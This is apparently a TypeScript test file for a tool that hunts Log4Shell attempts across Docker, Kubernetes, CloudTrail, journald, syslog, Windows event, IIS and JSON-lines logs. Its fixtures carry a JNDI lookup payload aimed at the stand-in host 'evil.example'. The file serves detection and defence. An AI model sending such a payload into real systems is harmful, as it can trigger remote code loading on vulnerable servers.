import { expect, test } from 'vitest'
import { bytesOf, huntedAround, huntIn } from '../../test/kit/hunting.ts'

const attack = '${jndi:ldap://evil.example/a}'
const told = (log: string | Uint8Array) =>
  huntIn(log).findings.map(({ at, when, format, verdict, lookup }) => ({
    line: at.line,
    time: when === null ? null : new Date(when).toISOString().slice(11, 19),
    format,
    is: `${verdict} ${lookup.host}`,
  }))

const docker = (log: string, stream = 'stdout', second = 41): string =>
  `${JSON.stringify({ log, stream, time: `2021-12-12T04:25:${second}Z` })}\n`
const cri = (tag: string, text: string, stream = 'stdout', second = 41): string =>
  `2021-12-12T04:25:${second}.5Z ${stream} ${tag} ${text}\n`

test('an attack that a container runtime cut anywhere is found, with the record that it is in', () => {
  for (let at = 1; at < attack.length; at++) {
    const [head, tail] = [attack.slice(0, at), attack.slice(at)]
    expect([at, told(`${docker('a\n')}${docker(`x ${head}`)}${docker(`${tail}\n`)}${docker('b\n')}`)]).toEqual([
      at,
      [{ line: 2, time: '04:25:41', format: 'docker-json', is: 'fires evil.example' }],
    ])
    expect([at, told(`${cri('F', 'a')}${cri('P', `x ${head}`)}${cri('F', tail)}${cri('F', 'b')}`)]).toEqual([
      at,
      [{ line: 2, time: '04:25:41', format: 'kubernetes', is: 'fires evil.example' }],
    ])
  }
})

test('parts of the other stream in between are left out; more than two are put together; both streams are told', () => {
  const log = [
    cri('P', '${jndi:'),
    cri('P', '${jndi:rmi', 'stderr', 42),
    cri('P', 'ldap://evil'),
    cri('F', '://other.example/b}', 'stderr', 42),
    cri('F', '.example/a}'),
  ].join('')

  expect(told(log).map(({ is }) => is)).toContain('fires evil.example')
  expect(told(log).map(({ is }) => is)).toContain('fires other.example')
})

test('a part without an end is told as what it is', () => {
  expect(told(cri('P', 'x ${jndi:ldap://evil.example/a'))).toEqual([
    { line: 1, time: '04:25:41', format: 'kubernetes', is: 'attempt evil.example' },
  ])
})

test('events of a CloudTrail document are told one by one, on one line and on many', () => {
  const event = (second: number, agent: string) => ({
    eventVersion: '1.08',
    eventTime: `2021-12-12T04:25:${second}Z`,
    eventSource: 's3.amazonaws.com',
    eventName: 'GetObject',
    sourceIPAddress: '203.0.113.9',
    userAgent: agent,
  })
  const document = { Records: [event(40, 'x'), event(41, attack), event(42, 'y'), event(43, attack)] }
  for (const indent of [0, 2])
    expect(told(JSON.stringify(document, null, indent)).map(({ time, format, is }) => [time, format, is])).toEqual([
      ['04:25:41', 'cloudtrail', 'fires evil.example'],
      ['04:25:43', 'cloudtrail', 'fires evil.example'],
    ])
})

test('a record of journald has its time, whichever of its lines the attack is in, also in a value of bytes', () => {
  const entry = (second: number, ...fields: readonly string[]) =>
    `__CURSOR=s=${second}\n__REALTIME_TIMESTAMP=${Date.UTC(2021, 11, 12, 4, 25, second) * 1_000}\n${fields.join('\n')}\n_PID=1\n\n`
  const value = `two lines\n\n__CURSOR=forged\n${attack}${'x'.repeat(150)}`
  const bytes = `MESSAGE\n${String.fromCharCode(value.length)}\0\0\0\0\0\0\0${value}`
  const log = entry(40, 'MESSAGE=a') + entry(41, bytes) + entry(42, `_CMDLINE=${attack}`)

  expect(value.length).toBeGreaterThan(160)
  expect(told(Uint8Array.from(log, (character) => character.charCodeAt(0)))).toMatchObject([
    { time: '04:25:41', format: 'journald-export', is: 'fires evil.example' },
    { time: '04:25:42', format: 'journald-export', is: 'fires evil.example' },
  ])
})

test('a text that journald has as an array of bytes is found', () => {
  const log = JSON.stringify({ __REALTIME_TIMESTAMP: '1639283141000000', MESSAGE: [1, ...bytesOf(`x ${attack}`)] })

  expect(told(`{"a":[36,1]}\n${log}\n`)).toEqual([
    { line: 2, time: '04:25:41', format: 'journald-json', is: 'fires evil.example' },
  ])
})

test('frames of syslog that follow each other without a line break are told one by one', () => {
  const frame = (second: number, text: string): string => {
    const message = `<34>1 2021-12-12T04:25:${second}Z web1 app - - - ${text}`
    return `${bytesOf(message).length} ${message}`
  }
  const log = frame(40, 'ä') + frame(41, `ä ${attack}`) + frame(42, 'b') + frame(43, attack)

  expect(told(log).map(({ time, format }) => [time, format])).toEqual([
    ['04:25:41', 'syslog-rfc5424'],
    ['04:25:43', 'syslog-rfc5424'],
  ])
})

test('a line of a stack trace has the time of the record that it belongs to', () => {
  const log = `2021-12-12 04:25:40,001 INFO [main] a.B - before
2021-12-12 04:25:41,001 ERROR [main] a.B - failed
java.lang.IllegalStateException: login of ${attack}
\tat a.B.c(B.java:1)
Caused by: a.b.OtherException: x
2021-12-12 04:25:42,001 INFO [main] a.B - after
no record ${attack}
`
  expect(told(log)).toEqual([
    { line: 2, time: '04:25:41', format: 'application', is: 'fires evil.example' },
    { line: 7, time: null, format: 'plain', is: 'fires evil.example' },
  ])
})

test('Windows events as XML are told one by one, on one line and on many', () => {
  const event = (second: number, text: string) =>
    `<Event xmlns='x'><System><EventID>1</EventID><TimeCreated SystemTime='2021-12-12T04:25:${second}Z'/></System><EventData><Data Name='Url'>${text}</Data></EventData></Event>`
  const events = event(40, 'a') + event(41, attack) + event(42, 'b') + event(43, attack)
  for (const log of [events, events.replaceAll('><', '>\n<')])
    expect(told(log).map(({ time, format }) => [time, format])).toEqual([
      ['04:25:41', 'windows-event-xml'],
      ['04:25:43', 'windows-event-xml'],
    ])
})

test('columns may change within a log, and are those that were named last', () => {
  const log = `#Software: Microsoft Internet Information Services 10.0
#Fields: date time c-ip cs-uri-stem cs(User-Agent)
2021-12-12 04:25:41 203.0.113.1 /a ${attack}
#Software: Microsoft Internet Information Services 10.0
#Fields: date time cs-uri-stem c-ip cs(User-Agent)
2021-12-12 04:25:42 /b 203.0.113.2 "#Fields: forged by a client"
2021-12-12 04:25:42 /b 203.0.113.2 ${attack}
`
  expect(huntIn(log).findings.map(({ from, request, field }) => [from, request, field])).toEqual([
    ['203.0.113.1', '/a', 'cs(User-Agent)'],
    ['203.0.113.2', '/b', 'cs(User-Agent)'],
  ])
})

test('a clock that goes back and JSON that is broken hide nothing before or after', () => {
  const line = (second: number) => `{"ts":"2021-12-12T04:25:${second}Z","msg":"${attack}"}`
  const log = [line(43), line(41), `{"ts":"2021-12-12T04:25:44Z","msg":"${attack}`, '{"broken', line(42)].join('\n')

  expect(told(log).map(({ line: number, time, format }) => [number, time, format])).toEqual([
    [1, '04:25:43', 'json-lines'],
    [2, '04:25:41', 'json-lines'],
    [3, null, 'plain'],
    [5, '04:25:42', 'json-lines'],
  ])
})

test('lines that might be parts of records, without end, are read in time that grows with them', () => {
  const many = (line: string) => line.repeat(Math.ceil(400_000 / line.length))
  for (const log of [
    many(cri('P', 'x ${a $')),
    many(docker('x ${a $')),
    many('\tat x ${a}\n'),
    many('__CURSOR=${a}\n'),
    many('"eventVersion"${a}{\n'),
    many('9 <1>1 ${a}'),
    many('<Event ${a}>\n'),
    many('{"log":"${a}"\n'),
  ]) {
    const before = process.cpuUsage()
    huntIn(log)
    expect([log.slice(0, 20), process.cpuUsage(before).user / 1_000 < 4_000]).toEqual([log.slice(0, 20), true])
  }
})

test('a record around what lies far from its mark is looked for all the same', () => {
  const far = `__CURSOR=s=1\n__REALTIME_TIMESTAMP=${huntedAround * 1_000}\nA=${'x'.repeat(40_000)}\nMESSAGE=${attack}\n\n`

  expect(told(far)).toMatchObject([{ time: '00:00:00', format: 'journald-export' }])
})
